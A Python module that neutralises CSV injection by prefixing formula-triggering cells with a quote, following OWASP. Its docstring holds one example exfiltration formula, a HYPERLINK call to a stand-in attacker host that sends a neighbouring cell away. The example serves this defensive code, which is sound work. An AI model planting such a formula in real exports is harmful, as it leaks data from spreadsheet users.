"""CSV that a spreadsheet opens as data, never as formulas (CSV injection, CWE-1236).

Excel, LibreOffice Calc and Google Sheets read a cell whose text begins with ``=``, ``+``, ``-``,
``@``, a tab (0x09) or a carriage return (0x0D) as a formula: a metric label
``=HYPERLINK("http://evil.example/?leak="&A2,"Click")`` becomes a live link that sends the
neighbouring cell away. OWASP's rule ("CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection) is applied: such a cell is prefixed with a
single quote, which the spreadsheet shows as text and does not evaluate; quoting of separators
and double quotes is left to :mod:`csv` (RFC 4180).

Only *string* cells are neutralised. A number (``int``, ``float``, ``Decimal``; ``bool``) is
written as the number it is: ``-0.5`` from a float is a negative number, not a formula, and
stays one for the spreadsheet to compute with. The string ``"-1+1"`` is text that a spreadsheet
would evaluate, so it is written ``'-1+1``. ``None`` is an empty cell.

Every CSV the product writes goes through :func:`csv_write` (header and rows alike); a writer
with other needs uses :func:`csv_cell` on every cell.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

#: Leading characters that make a spreadsheet evaluate a cell (OWASP: = + - @ tab CR).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """``value`` safe for a CSV cell: a string beginning with one of :data:`FORMULA_TRIGGERS`
    gets a leading ``'``; every other value (numbers, ``None``, other strings) is returned as is."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_write(file: IO[str], *, fieldnames: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> None:
    """Write a header row of ``fieldnames`` and then ``rows`` (dicts; keys not in ``fieldnames``
    are ignored, missing ones are empty cells) to ``file``, every cell through :func:`csv_cell`."""
    writer = csv.writer(file)
    writer.writerow([csv_cell(name) for name in fieldnames])
    for row in rows:
        writer.writerow([csv_cell(row.get(name)) for name in fieldnames])
